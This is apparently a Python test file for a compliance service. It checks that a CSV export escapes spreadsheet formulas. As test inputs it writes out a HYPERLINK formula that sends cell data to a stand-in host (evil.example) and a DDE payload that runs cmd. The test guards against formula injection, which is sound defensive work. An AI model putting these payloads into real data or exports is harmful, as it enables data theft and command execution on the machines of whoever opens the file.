"""Row 10: agent- and operator-controlled text reaches the CSV export as text, never as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from tests.factories import login, make_org, make_user
from tests.scan_builders import make_policy, make_template, run_scan

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_formula_in_a_heartbeat_ip_address_and_in_actual_is_exported_as_text(client, db, sessionmaker):
    org = await make_org(db)
    operator = await make_user(db, org=org, role="operator")
    await db.commit()
    headers = await login(client, operator.username)
    token = (await client.post(f"/api/v1/orgs/{org.id}/enrollment-tokens", json={}, headers=headers)).json()["token"]
    enrolled = await client.post("/api/v1/agent/enroll", json={
        "enrollment_token": token, "hostname": "csv-host", "os_type": "linux", "ip_address": "10.0.0.5"})
    assert enrolled.status_code == 201, enrolled.text
    agent_headers = {"Authorization": f"Bearer {enrolled.json()['agent_token']}"}
    beat = await client.post("/api/v1/agent/heartbeat", json={"ip_address": HYPERLINK}, headers=agent_headers)
    assert beat.status_code == 200, beat.text

    template = await make_template(db, org, checks=3, critical=0, name="@evil template")
    policy = await make_policy(db, org, template, name="=1+1 policy")
    await db.commit()
    await run_scan(sessionmaker, policy, enrolled.json()["host_id"], template, passed=3,
                   actual={template.medium[0].id: "@SUM(1+1)*cmd|' /C calc'!A0", template.medium[1].id: "-2+3"})

    response = await client.get("/api/v1/compliance/export.csv", headers=headers)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text, newline="")))[1:]
    assert len(rows) == 3
    for row in rows:
        assert row[0] == "csv-host"
        assert row[1] == "'" + HYPERLINK
        assert (row[3], row[4]) == ("'=1+1 policy", "'@evil template")
    actual = {row[6]: row[10] for row in rows}
    assert actual == {"R000": "'@SUM(1+1)*cmd|' /C calc'!A0", "R001": "'-2+3", "R002": "seen"}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
